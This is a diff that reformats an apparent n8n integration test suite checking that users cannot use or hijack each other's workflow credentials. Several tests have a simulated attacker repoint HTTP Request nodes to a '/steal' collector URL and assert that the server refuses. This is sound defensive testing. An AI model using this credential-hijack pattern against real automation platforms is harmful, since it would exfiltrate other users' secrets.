@@ -57,7 +57,14 @@ function httpNode(path: string, credentialId?: string, extra: Record<string, unk
   };
 }
 
-const START = { id: 'b1f0e9a2-0000-4000-8000-000000000000', name: 'Start', type: 'n8n-nodes-base.manualTrigger', typeVersion: 1, position: [0, 0], parameters: {} };
+const START = {
+  id: 'b1f0e9a2-0000-4000-8000-000000000000',
+  name: 'Start',
+  type: 'n8n-nodes-base.manualTrigger',
+  typeVersion: 1,
+  position: [0, 0],
+  parameters: {},
+};
 
 /** Manual Trigger → HTTP Request. */
 function manualCall(name: string, path: string, credentialId?: string) {
@@ -93,13 +100,17 @@ describe.each(DIALECTS)('credential use in workflows on %s', (dialect) => {
         settings: { executionOrder: 'v1' },
       });
       expect((await mallory.browser.get(`/workflows/${active.id}`)).status).toBe(404);
-      const hijacked = active.nodes.map((n) => (n.name === 'HTTP Request' ? { ...n, parameters: { ...n.parameters, url: `${collectorBase}/steal` } } : n));
+      const hijacked = active.nodes.map((n) =>
+        n.name === 'HTTP Request' ? { ...n, parameters: { ...n.parameters, url: `${collectorBase}/steal` } } : n,
+      );
       const save = await mallory.browser.patch(`/workflows/${active.id}`, { nodes: hijacked, versionId: active.versionId });
       expect(save.status).toBe(404);
       const forced = await mallory.browser.patch(`/workflows/${active.id}?forceSave=true`, { name: 'Mine now' });
       expect(forced.status).toBe(404);
       expect((await mallory.browser.delete(`/workflows/${active.id}`)).status).toBe(404);
-      const run = await mallory.browser.post('/workflows/run', { workflowData: { ...manualCall('x', '/steal', ownerCredential), id: active.id } });
+      const run = await mallory.browser.post('/workflows/run', {
+        workflowData: { ...manualCall('x', '/steal', ownerCredential), id: active.id },
+      });
       expect(run.status).toBe(404);
       const list = await mallory.browser.get<Data<ApiWorkflow[]>>('/workflows');
       expect(list.body.data.some((w) => w.id === active.id)).toBe(false);
@@ -113,7 +124,10 @@ describe.each(DIALECTS)('credential use in workflows on %s', (dialect) => {
     it("refuses a member's save that names another user's credential", async () => {
       const mallory = team.members['mallory']!;
       for (const credentialId of [ownerCredential, miaCredential]) {
-        const created = await mallory.browser.post<{ message: string; hint?: string }>('/workflows', manualCall('Steal', '/steal', credentialId));
+        const created = await mallory.browser.post<{ message: string; hint?: string }>(
+          '/workflows',
+          manualCall('Steal', '/steal', credentialId),
+        );
         expect(created.status).toBe(403);
         expect(created.body.message).toMatch(REFUSED);
         expect(created.body.message).toContain(credentialId);
@@ -161,11 +175,19 @@ describe.each(DIALECTS)('credential use in workflows on %s', (dialect) => {
       const mia = team.members['mia']!;
       const workflow = await createWorkflow(mia, manualCall('Mia calls', '/legit', miaCredential));
       const moved = workflow.nodes.map((n) => ({ ...n, position: [n.position[0] + 40, n.position[1] + 40] }));
-      const move = await team.owner.browser.patch<Data<ApiWorkflow>>(`/workflows/${workflow.id}`, { nodes: moved, versionId: workflow.versionId });
+      const move = await team.owner.browser.patch<Data<ApiWorkflow>>(`/workflows/${workflow.id}`, {
+        nodes: moved,
+        versionId: workflow.versionId,
+      });
       expect(move.status, JSON.stringify(move.body)).toBe(200);
 
-      const repointed = move.body.data.nodes.map((n) => (n.name === 'HTTP Request' ? { ...n, parameters: { ...n.parameters, url: `${collectorBase}/steal` } } : n));
-      const repoint = await team.owner.browser.patch<{ message: string }>(`/workflows/${workflow.id}`, { nodes: repointed, versionId: move.body.data.versionId });
+      const repointed = move.body.data.nodes.map((n) =>
+        n.name === 'HTTP Request' ? { ...n, parameters: { ...n.parameters, url: `${collectorBase}/steal` } } : n,
+      );
+      const repoint = await team.owner.browser.patch<{ message: string }>(`/workflows/${workflow.id}`, {
+        nodes: repointed,
+        versionId: move.body.data.versionId,
+      });
       expect(repoint.status).toBe(403);
       expect(repoint.body.message).toMatch(REFUSED);
       const copy = await team.owner.browser.post<{ message: string }>('/workflows', manualCall('Copy', '/steal', miaCredential));
@@ -181,7 +203,11 @@ describe.each(DIALECTS)('credential use in workflows on %s', (dialect) => {
     it("loads a node's options and lists only with credentials the user may use", async () => {
       const mia = team.members['mia']!;
       // A database credential of Mia's; nothing listens there, so a load that goes ahead fails to connect.
-      const database = await createCredential(mia, { name: 'Mia database', type: 'postgres', data: { host: '127.0.0.1', port: 1, database: 'x', user: 'mia', password: 'mia-db-secret', ssl: 'disable' } });
+      const database = await createCredential(mia, {
+        name: 'Mia database',
+        type: 'postgres',
+        data: { host: '127.0.0.1', port: 1, database: 'x', user: 'mia', password: 'mia-db-secret', ssl: 'disable' },
+      });
       const query = new URLSearchParams({
         nodeTypeAndVersion: JSON.stringify({ name: 'n8n-nodes-base.postgres', version: 2.1 }),
         methodName: 'schemaSearch',
